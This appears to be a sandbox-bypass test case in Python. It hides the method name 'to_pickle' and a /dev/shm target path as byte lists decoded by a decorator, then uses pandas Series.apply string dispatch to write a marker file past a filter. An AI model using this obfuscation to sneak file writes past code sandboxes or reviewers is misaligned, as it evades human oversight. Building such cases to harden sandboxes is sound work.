# source: pandas Series.apply(str, args=...) -> apply_str -> getattr(obj, name)(*args); decorator rebinding a def
# family: decorated def rebound to a runtime string; Series string dispatch -> to_pickle writes anywhere
# goal: write /dev/shm/series_pwned.pkl
import pandas as pd

def as_text(codes):
    def deco(fn):
        return bytes(codes).decode()
    return deco

@as_text([116, 111, 95, 112, 105, 99, 107, 108, 101])
def dump():
    pass

@as_text([47, 100, 101, 118, 47, 115, 104, 109, 47, 115, 101, 114, 105, 101, 115, 95, 112, 119, 110, 101, 100, 46, 112, 107, 108])
def dest():
    pass

s = pd.Series([1.0, 2.0])
try:
    s.apply(dump, args=(dest,))
except Exception as e:
    print(type(e).__name__)
print("done")
